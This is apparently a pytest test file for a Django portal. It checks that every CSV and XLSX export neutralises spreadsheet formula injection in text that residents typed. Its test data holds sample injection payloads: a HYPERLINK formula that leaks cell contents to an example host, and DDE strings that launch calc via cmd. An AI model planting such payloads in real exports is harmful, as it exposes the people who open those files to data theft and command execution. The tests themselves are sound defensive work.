"""Every spreadsheet download neutralises what residents typed: no cell runs as a formula."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.urls import get_resolver, reverse
from django.utils import timezone
from openpyxl import load_workbook

from lsa_portal import exports
from monitor import services as monitor_services
from tests.factories import (
    EnterpriseFactory,
    OfficerLinkFactory,
    ReportRequestFactory,
    StaffFactory,
    SubscriberFactory,
)

pytestmark = pytest.mark.django_db

# What a malicious resident or requester types (each starts like a formula).
FORMULAS = [
    '=HYPERLINK("https://example.org/?leak="&A2,"Klik")',
    "+31 6 1234 5678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("value", [*FORMULAS, "=", "@"])
def test_a_csv_cell_that_starts_like_a_formula_is_shown_as_text(value):
    assert exports.csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Buurtbedrijf", "", " =niet aan het begin", "12", "a=b"])
def test_other_text_is_left_as_it_is(value):
    assert exports.csv_cell(value) == value


def test_numbers_stay_numbers_and_lists_are_joined_then_checked():
    assert exports.csv_cell(-5) == -5
    assert exports.csv_cell(None) == ""
    assert exports.csv_cell(["=a", "b"]) == "'=a;b"


def _csv_cells(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    text = body.decode("utf-8-sig")
    delimiter = ";" if ";" in text.splitlines()[0] else ","
    return list(csv.reader(io.StringIO(text), delimiter=delimiter))


def _assert_no_formula(rows: list[list[str]], typed: list[str]) -> None:
    cells = [cell for row in rows for cell in row]
    for cell in cells:
        assert not cell.startswith(FORMULA_STARTS), cell
    for value in typed:
        assert "'" + value in cells, f"{value!r} is not in the export, neutralised"


def _hostile_enterprise(municipality=None):
    extra = {"municipality": municipality} if municipality else {}
    return EnterpriseFactory(
        name=FORMULAS[0],
        neighbourhood=FORMULAS[2],
        website="https://example.org",
        contact_name=FORMULAS[3],
        contact_email="kim@example.org",
        municipality_may_contact=True,
        **extra,
    )


def test_the_open_data_csv_neutralises_formulas(client):
    _hostile_enterprise()
    rows = _csv_cells(client.get(reverse("enterprises:export_csv")))
    _assert_no_formula(rows, [FORMULAS[0], FORMULAS[2]])


def test_the_municipal_csv_and_xlsx_neutralise_formulas(client):
    link = OfficerLinkFactory()
    _hostile_enterprise(link.municipality)
    client.force_login(link.user)
    slug = link.municipality.slug
    rows = _csv_cells(client.get(reverse("municipalities:export_csv", kwargs={"slug": slug})))
    _assert_no_formula(rows, [FORMULAS[0], FORMULAS[2], FORMULAS[3]])

    response = client.get(reverse("municipalities:export_xlsx", kwargs={"slug": slug}))
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type != "f" for cell in cells)
    values = {cell.value for cell in cells}
    # In XLSX the text stays exactly as typed, in a text cell.
    assert {FORMULAS[0], FORMULAS[2], FORMULAS[3]} <= values
    name_cell = next(cell for cell in cells if cell.value == FORMULAS[0])
    assert name_cell.data_type == "s"


def test_xlsx_drops_characters_a_spreadsheet_cannot_hold():
    sheet_value = exports.xlsx_value("Buurt\x00\x07bedrijf\x1b")
    assert sheet_value == "Buurtbedrijf"
    assert len(exports.xlsx_value("x" * 40_000)) == exports.XLSX_MAX_CELL


def test_xlsx_of_hostile_text_and_sheet_name_can_be_opened():
    response = exports.xlsx_response(
        "x.xlsx", "'s-Hertogenbosch [oud]: *?/\\", ["naam"], [["=1+1\x00\x01"], [["@a", "b"]]]
    )
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert [row[0].value for row in sheet.iter_rows()] == ["naam", "=1+1", "@a;b"]
    assert all(row[0].data_type == "s" for row in sheet.iter_rows())
    assert response["Content-Disposition"] == 'attachment; filename="x.xlsx"'
    assert response["X-Content-Type-Options"] == "nosniff"


def _staff(client):
    client.force_login(StaffFactory())
    return client


def test_the_report_request_export_neutralises_formulas(client):
    ReportRequestFactory(name=FORMULAS[3], organisation=FORMULAS[1])
    rows = _csv_cells(_staff(client).get(reverse("knowledge:export_requests")))
    _assert_no_formula(rows, [FORMULAS[3], FORMULAS[1]])


def test_the_subscriber_export_neutralises_formulas(client):
    SubscriberFactory(name=FORMULAS[0], confirmed_at=timezone.now())
    rows = _csv_cells(_staff(client).get(reverse("knowledge:export_subscribers")))
    _assert_no_formula(rows, [FORMULAS[0]])


@pytest.mark.parametrize(
    ("model", "action"), [("reportrequest", "export_csv"), ("subscriber", "export_confirmed")]
)
def test_the_admin_exports_neutralise_formulas(client, model, action):
    request = ReportRequestFactory(name=FORMULAS[4])
    subscriber = SubscriberFactory(name=FORMULAS[4], confirmed_at=timezone.now())
    selected = request if model == "reportrequest" else subscriber
    response = _staff(client).post(
        reverse(f"admin:knowledge_{model}_changelist"),
        {"action": action, "_selected_action": [selected.pk]},
    )
    assert response["Content-Type"].startswith("text/csv")
    _assert_no_formula(_csv_cells(response), [FORMULAS[4]])


def test_the_round_non_respondents_csv_neutralises_formulas(client):
    _hostile_enterprise()
    staff = StaffFactory()
    year = timezone.localdate().year - 1
    monitor_services.open_round(
        year=year,
        deadline=timezone.localdate() + timedelta(days=30),
        reminder_days="14,3",
        by=staff,
    )
    client.force_login(staff)
    response = client.get(reverse("monitor:round_non_respondents", kwargs={"year": year}))
    _assert_no_formula(_csv_cells(response), [FORMULAS[0], FORMULAS[3]])


@pytest.mark.parametrize("name", ["import_template_csv", "import_template_xlsx"])
def test_the_import_templates_hold_no_formula(client, name):
    response = _staff(client).get(reverse(f"enterprises:{name}"))
    if name.endswith("csv"):
        rows = _csv_cells(response)
    else:
        workbook = load_workbook(io.BytesIO(response.content))
        rows = [[cell.value or "" for cell in row] for sheet in workbook for row in sheet]
    assert len(rows) > 1 or rows[0][0] == "naam"
    _assert_no_formula(rows, [])


# Every download URL of the portal, and the test above that covers it.
SPREADSHEET_URLS = {
    "enterprises:import_template_csv": test_the_import_templates_hold_no_formula,
    "enterprises:import_template_xlsx": test_the_import_templates_hold_no_formula,
    "enterprises:export_csv": test_the_open_data_csv_neutralises_formulas,
    "municipalities:export_csv": test_the_municipal_csv_and_xlsx_neutralise_formulas,
    "municipalities:export_xlsx": test_the_municipal_csv_and_xlsx_neutralise_formulas,
    "knowledge:export_requests": test_the_report_request_export_neutralises_formulas,
    "knowledge:export_subscribers": test_the_subscriber_export_neutralises_formulas,
    "monitor:round_non_respondents": test_the_round_non_respondents_csv_neutralises_formulas,
}


def _named_routes(resolver=None, prefix=""):
    resolver = resolver or get_resolver()
    for pattern in resolver.url_patterns:
        if hasattr(pattern, "url_patterns"):
            namespace = f"{prefix}{pattern.namespace}:" if pattern.namespace else prefix
            yield from _named_routes(pattern, namespace)
        elif pattern.name:
            yield f"{prefix}{pattern.name}", str(pattern.pattern)


def test_every_spreadsheet_download_is_covered():
    """A new .csv or .xlsx URL must be added to SPREADSHEET_URLS (and so be tested)."""
    found = {
        name
        for name, route in _named_routes()
        if route.endswith((".csv", ".xlsx")) and not name.startswith("admin:")
    }
    assert found == set(SPREADSHEET_URLS)
